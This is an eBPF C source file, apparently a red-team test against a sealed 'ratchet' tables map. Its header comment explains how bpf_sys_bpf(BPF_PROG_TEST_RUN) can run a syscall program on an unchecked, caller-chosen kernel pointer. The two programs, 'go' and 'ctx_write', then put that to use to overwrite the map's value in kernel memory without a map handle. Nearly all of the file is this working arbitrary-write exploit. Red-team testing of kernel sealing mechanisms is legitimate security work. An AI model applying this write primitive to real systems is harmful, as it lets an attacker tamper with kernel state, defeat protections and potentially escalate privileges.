// SPDX-License-Identifier: GPL-2.0
/*
 * ctxwrite.bpf.c - red team 3: write the sealed tables map's element in
 * place, with no fd to the map. bpf_sys_bpf(BPF_PROG_TEST_RUN) from a
 * syscall program runs another syscall program on a context pointer the
 * caller chooses: kern_sys_bpf() (kernel/bpf/syscall.c, 6.1, 6.12 and
 * 7.2) checks ctx_size_in against max_ctx_offset and then calls
 * bpf_prog_run(prog, (void *)attr->test.ctx_in), never checking where
 * ctx_in points. A syscall program may write its context anywhere below
 * U16_MAX (syscall_prog_is_valid_access()), so `ctx_write` run on the
 * address of the tables' value writes @newval over it.
 *
 * `find_value` (iter/bpf_map, find-map.bpf.h) learns that address: the struct bpf_map of
 * the map with id @want plus the offset of struct bpf_array's value.
 */
#include "kernel.h"
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_core_read.h>
#include "ratchet.h"

char LICENSE[] SEC("license") = "GPL";

#define WORDS (sizeof(struct ratchet_tables) / 8)

__u64 newval[WORDS];
#include "find-map.bpf.h"

/* Writes @newval over its context, wherever that is. */
SEC("syscall")
int ctx_write(__u64 *ctx)
{
	int i;

#pragma clang loop unroll(full)
	for (i = 0; i < WORDS; i++)
		ctx[i] = newval[i];
	return 0;
}

/* union bpf_attr's test member (include/uapi/linux/bpf.h). */
struct test_attr {
	__u32 prog_fd, retval, data_size_in, data_size_out;
	__u64 data_in, data_out;
	__u32 repeat, duration, ctx_size_in, ctx_size_out;
	__u64 ctx_in, ctx_out;
	__u32 flags, cpu, batch_size, pad;
};

struct go_args {
	__u64 target;
	__u32 prog_fd;
	__s32 ret;
};

/* Runs ctx_write (@a->prog_fd) on the context @a->target. */
SEC("syscall")
int go(struct go_args *a)
{
	struct test_attr t = {};

	t.prog_fd = a->prog_fd;
	t.ctx_in = a->target;
	t.ctx_size_in = WORDS * 8;
	a->ret = bpf_sys_bpf(BPF_PROG_TEST_RUN, &t, sizeof(t));
	return 0;
}
